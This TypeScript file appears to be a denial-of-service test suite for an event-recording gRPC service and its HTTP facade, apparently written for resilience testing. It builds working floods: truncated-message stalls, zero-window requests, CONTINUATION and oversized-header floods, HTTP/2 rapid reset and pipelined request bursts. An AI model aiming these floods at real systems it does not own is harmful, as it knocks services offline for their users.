/** Attacks that leave work or memory behind: cheap to send, and much of what they begin waits for something. */

import { type Attack, siege, type Target } from "./attack.js";
import { post } from "./http-attacks.js";
import { callHeaders, END_HEADERS, END_STREAM, frame, headerBlock, PREFACE, settings, word } from "./http2-frames.js";

const RECORD = "/aisle.v1.EventService/RecordEvent";
const LIST = "/aisle.v1.EventService/ListEvents";
const rpc = ({ rpcPort }: Target) => rpcPort;
const facade = ({ facadePort }: Target) => facadePort;
const opening = Buffer.concat([PREFACE, settings()]);
const times = (count: number, of: (n: number) => Uint8Array) =>
  Buffer.concat(Array.from({ length: count }, (_, n) => of(n)));
const calls = (count: number, of: (id: number) => readonly Uint8Array[]) =>
  times(count, (n) => Buffer.concat(of(2 * n + 1)));

/** 25 bytes: a prefix that announces a message of nearly 4 MiB, and 20 bytes of it. */
const lie = Buffer.concat([Buffer.from([0]), word(4 * 1024 * 1024 - 5), Buffer.alloc(20, 1)]);

/** A ListEventsRequest. */
const listOf = (appId: string) =>
  Buffer.concat([Buffer.from([0]), word(2 + appId.length), Buffer.from([0x0a, appId.length]), Buffer.from(appId)]);

const lying = (name: string, path: string, flags: number): Attack => {
  const bytes = Buffer.concat([
    opening,
    calls(1000, (id) => [frame("headers", END_HEADERS, id, callHeaders(path)), frame("data", flags, id, lie)]),
  ]);
  return siege(name, "60 connections, each opens 1,000 calls whose message does not come", {
    port: rpc,
    connections: 60,
    first: () => bytes,
  });
};

export const FLOODS: readonly Attack[] = [
  lying("messages that never come", RECORD, 0),
  lying("messages cut short", RECORD, END_STREAM),
  lying("streams of messages that never come", "/aisle.v1.EventService/RecordEvents", 0),
  siege(
    "lists without a window",
    "60 connections, each asks 100 times for a page of events and gives no window for it",
    {
      port: rpc,
      connections: 60,
      first: ({ appId }) =>
        Buffer.concat([
          PREFACE,
          settings([[4, 0]]),
          calls(100, (id) => [
            frame("headers", END_HEADERS, id, callHeaders(LIST)),
            frame("data", END_STREAM, id, listOf(appId)),
          ]),
        ]),
    },
  ),
  siege("continuations", "8 connections, each sends 200 KB of CONTINUATION twenty times a second", {
    port: rpc,
    reopenMs: 1,
    connections: 8,
    first: () => Buffer.concat([opening, frame("headers", 0, 1, callHeaders(RECORD))]),
    again: { everyMs: 50, bytes: () => continuation },
  }),
  siege("large headers of calls", "20 connections, each opens 100 calls with 15 KB of header ten times a second", {
    port: rpc,
    reopenMs: 1,
    connections: 20,
    first: () => largeHeaders,
  }),
  siege("large headers of requests", "20 connections, each sends 20 requests with 15 KB of header ten times a second", {
    port: facade,
    connections: 20,
    again: { everyMs: 100, bytes: () => largeRequests },
  }),
  siege("headers beyond the limit", "20 connections, each sends 17 KB of header and comes again", {
    port: facade,
    reopenMs: 1,
    connections: 20,
    first: () => `GET /healthz HTTP/1.1\r\nHost: localhost\r\n${"x".repeat(17_000)}: y\r\n\r\n`,
  }),
  siege(
    "rapid reset of 60 connections",
    "60 connections, each opens and resets 1,000 streams at once, then comes again",
    {
      port: rpc,
      reopenMs: 1,
      connections: 60,
      first: () => resets,
    },
  ),
  siege("pipelined events", "20 connections, each sends 500 events at once, again when the answers come", {
    port: facade,
    connections: 20,
    first: (target) => pipelined(target),
    again: { everyMs: 50, bytes: (target) => pipelined(target), afterAnswer: true },
  }),
];

const resets = Buffer.concat([
  opening,
  calls(1000, (id) => [frame("headers", END_HEADERS, id, callHeaders(RECORD)), frame("resetStream", 0, id, word(8))]),
]);
const continuation = times(200, () => frame("continuation", 0, 1, headerBlock([["x", "y".repeat(1000)]])));
const largeHeaders = Buffer.concat([
  opening,
  calls(100, (id) => [
    frame(
      "headers",
      END_HEADERS,
      id,
      callHeaders(
        RECORD,
        Array.from({ length: 15 }, (_, n) => [`x-${n}`, "y".repeat(1000)]),
      ),
    ),
    frame("data", END_STREAM, id, Buffer.alloc(5)),
  ]),
]);
const largeRequests = Buffer.from(
  `GET /healthz HTTP/1.1\r\nHost: localhost\r\nx: ${"y".repeat(15_000)}\r\n\r\n`.repeat(20),
);
const pipelinedBodies = new Map<string, Buffer>();
function pipelined({ appId }: Target): Buffer {
  const known = pipelinedBodies.get(appId);
  if (known) return known;
  const one = post(
    "/trace",
    "application/x-www-form-urlencoded",
    `app_id=${appId}&action_type=product_view&product_ids=1&c_id=c1`,
  );
  const all = Buffer.concat(Array.from({ length: 500 }, () => one));
  pipelinedBodies.set(appId, all);
  return all;
}
